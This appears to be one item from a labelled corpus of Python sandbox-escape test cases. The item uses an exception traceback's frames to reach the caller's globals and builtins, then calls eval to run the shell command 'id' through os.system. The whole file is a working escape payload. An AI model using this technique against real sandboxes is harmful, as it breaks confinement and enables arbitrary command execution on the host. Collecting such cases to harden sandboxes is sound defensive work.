# attack-class: 5
# title: exception traceback frame walk to f_globals
# why: e.__traceback__.tb_frame.f_back.f_globals reaches the caller's globals and builtins

def probe():
    try:
        1 / 0
    except ZeroDivisionError as e:
        return e.__traceback__.tb_frame.f_back.f_globals

def main():
    g = probe()
    bi = g["__builtins__"]
    ev = bi["eval"] if isinstance(bi, dict) else bi.eval
    ev("__import__('os').system('id')")

main()
